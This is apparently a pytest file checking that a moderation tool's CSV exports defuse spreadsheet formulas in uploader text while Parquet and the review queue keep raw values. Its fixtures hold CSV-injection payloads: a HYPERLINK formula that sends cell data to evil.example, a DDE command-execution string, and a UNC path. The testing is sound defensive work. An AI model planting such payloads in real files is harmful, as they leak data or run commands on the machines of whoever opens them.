"""CSV files written for people defuse cells a spreadsheet would run as formulas (CSV
injection from uploader text): `slopscore score --out *.csv` and `slopscore decisions export`,
with `--raw-csv` for raw cells. Numbers stay numbers; the review queue and Parquet stay raw."""

from __future__ import annotations

import csv

import pandas as pd
import pyarrow.parquet as pq
from sqlalchemy import select
from typer.testing import CliRunner

from slopscore.batch.score_output import ScoreWriter, read_scores
from slopscore.cli.main import app
from slopscore.review.database import open_queue
from slopscore.review.decisions import decide
from slopscore.review.ingest import upsert_scores
from slopscore.review.schema import Action, QueueItem
from tests.bad_inputs import tiny_scorer
from tests.test_web_support import scored_frame, write_images

runner = CliRunner()
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"open")', "artist_id": "@SUM(1+1)*cmd",
            "tags": "+cmd|' /c calc'!a0", "item_id": "-2+3"}


def _rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _manifest(tmp_path):
    images = write_images(tmp_path / "media", 2)
    manifest = tmp_path / "uploads.csv"
    pd.DataFrame([
        {**FORMULAS, "path": str(images[0]), "uploaded_at": "2026-07-04T10:00:00+00:00"},
        {"item_id": "plain-1", "artist_id": "artist-1", "path": str(images[1]),
         "uploaded_at": "2026-07-04T11:00:00+00:00", "title": "-5 shades of grey", "tags": "ink"},
    ]).to_csv(manifest, index=False)
    return manifest


def test_score_csv_defuses_formula_text_but_the_queue_and_raw_csv_keep_it(tmp_path):
    scorer = tiny_scorer(tmp_path / "scorer")
    manifest, queue = _manifest(tmp_path), f"sqlite:///{tmp_path / 'q.db'}"
    outputs = {}
    for name, extra in (("scores.csv", []), ("raw.csv", ["--raw-csv"]), ("scores.parquet", [])):
        result = runner.invoke(app, ["score", "--model", str(scorer), "--input", str(manifest), "--out",
                                     str(tmp_path / name), "--cache-dir", str(tmp_path / "cache"),
                                     "--queue", queue, *extra], env={"SLOPSCORE_ALLOW_TEST_BACKBONE": "1"})
        assert result.exit_code == 0, result.output
        outputs[name] = {row["item_id"]: row for row in _rows(tmp_path / name)} if name.endswith(".csv") \
            else pq.read_table(tmp_path / name).to_pandas().set_index("item_id")
    defused, raw, parquet = outputs["scores.csv"], outputs["raw.csv"], outputs["scores.parquet"]
    attack = defused["'" + FORMULAS["item_id"]]
    for column, value in FORMULAS.items():
        assert attack[column] == "'" + value, column
        assert raw[FORMULAS["item_id"]][column] == value
    assert parquet.loc[FORMULAS["item_id"], "title"] == FORMULAS["title"]  # Parquet: always raw
    assert defused["plain-1"]["title"] == "'-5 shades of grey" and defused["plain-1"]["tags"] == "ink"
    assert 0 <= float(attack["triage_score"]) <= 1 and attack["status"] == "embedded"  # numbers stay numbers
    with open_queue(queue).connect() as connection:
        titles = set(connection.execute(select(QueueItem.title)).scalars())
    assert FORMULAS["title"] in titles  # moderators see the text as uploaded (escaped in HTML)


def test_score_writer_defuses_only_text_cells(tmp_path):
    chunk = pd.DataFrame({"item_id": ["-1", "ok"], "title": ["=1+1", "-"], "triage_score": [0.25, 0.5],
                          "centroid_z": [-1.25, -0.5], "cross_account_posters": [-3, 2],
                          "status": "embedded"})
    with ScoreWriter(tmp_path / "s.csv") as writer:
        returned = writer.write(chunk)
    assert list(returned["title"]) == ["=1+1", "-"]  # what goes on to the queue is raw
    rows = _rows(tmp_path / "s.csv")
    assert [(r["item_id"], r["title"]) for r in rows] == [("'-1", "'=1+1"), ("ok", "'-")]
    assert [r["centroid_z"] for r in rows] == ["-1.25", "-0.5"] and rows[0]["cross_account_posters"] == "-3"
    again = read_scores(tmp_path / "s.csv")
    assert sorted(again["centroid_z"]) == [-1.25, -0.5]  # still numbers when read back


def test_decisions_export_defuses_formula_text_unless_raw(tmp_path):
    queue = f"sqlite:///{tmp_path / 'q.db'}"
    engine = open_queue(queue)
    frame = scored_frame(write_images(tmp_path / "media"), 2)
    frame.loc[0, ["item_id", "artist_id", "title", "tags"]] = [FORMULAS[c] for c in
                                                               ("item_id", "artist_id", "title", "tags")]
    frame.loc[1, "path"] = "@\\\\evil\\share\\x.png"
    upsert_scores(engine, frame)
    for item in (1, 2):
        decide(engine, item, Action.NO_CONCERN, "alice")
    for extra, expect in (([], lambda v: "'" + v), (["--raw-csv"], lambda v: v)):
        out = tmp_path / f"labels{len(extra)}.csv"
        result = runner.invoke(app, ["decisions", "export", "--db", queue, "--out", str(out), *extra])
        assert result.exit_code == 0, result.output
        first, second = _rows(out)
        for column in ("item_id", "artist_id", "title", "tags"):
            assert first[column] == expect(FORMULAS[column]), (extra, column)
        assert second["path"] == expect("@\\\\evil\\share\\x.png")
        assert first["review_outcome"] == "dismissed" and first["uploaded_at"].startswith("2026-07-04")
    parquet = tmp_path / "labels.parquet"
    assert runner.invoke(app, ["decisions", "export", "--db", queue, "--out", str(parquet)]).exit_code == 0
    assert pd.read_parquet(parquet)["title"].iloc[0] == FORMULAS["title"]
